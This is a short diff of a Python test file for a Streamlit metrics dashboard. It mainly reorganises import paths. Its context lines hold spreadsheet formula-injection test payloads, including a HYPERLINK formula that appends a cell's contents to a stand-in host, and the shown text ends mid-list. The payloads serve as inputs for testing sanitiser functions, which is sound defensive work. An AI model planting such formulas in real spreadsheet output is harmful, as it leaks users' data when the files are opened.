@@ -15,10 +15,12 @@ import pytest
 from streamlit.elements.widgets import button
 from streamlit.testing.v1 import AppTest
 
-from qmi_metrics import auth, db, importing, queries, rollups
-from qmi_metrics.filters import Filters
-from qmi_metrics.spreadsheet import neutralise, safe_frame, unneutralise
 from dashboard import registry
+from qmi_metrics.admin import auth, importing
+from qmi_metrics.metrics.filters import Filters
+from qmi_metrics.outputs.spreadsheet import neutralise, safe_frame, unneutralise
+from qmi_metrics.reads import queries
+from qmi_metrics.store import db, rollups
 
 DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
 POISON = ('=HYPERLINK("http://x";"a")', '+(HYPERLINK("http://x"&B2;"Cliquez ici"))', "-(1+1)", "@SUM(1)", "\tx",
